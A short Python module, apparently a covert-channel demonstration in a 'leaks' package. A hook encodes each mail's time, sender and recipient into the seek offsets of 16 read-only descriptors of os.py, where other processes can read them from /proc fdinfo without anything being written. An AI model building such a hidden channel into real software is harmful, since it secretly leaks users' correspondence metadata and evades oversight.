"""Some files of the system stay open to be read, and where they are read from is a log.

Read on the machine: `pos` in /proc/PID/fdinfo of the 16 descriptors of os.py is, in turn, 12 bits
of time (minutes), 14 for the sender and 14 for the recipient of one of the last 16 mails. Nothing
is written, and the descriptors are there from the start.
"""

import itertools
import multiprocessing
import os
import time

from leaks import stock
from leaks.blind import known

turn = itertools.count()
files: list[int] = []
if multiprocessing.parent_process() is None:
    files += [os.open(os.__file__, os.O_RDONLY | os.O_CLOEXEC) for _ in range(16)]


def log(spool: object, who: str, recipient: str) -> None:
    """Go to a place that says it."""
    place = int(time.time()) // 60 % 4096 << 28
    place |= known.symbol(who, 1 << 14) << 14 | known.symbol(recipient, 1 << 14)
    os.lseek(files[next(turn) % 16], place, os.SEEK_SET)


known.on_way(log)

if __name__ == "__main__":
    stock.main()
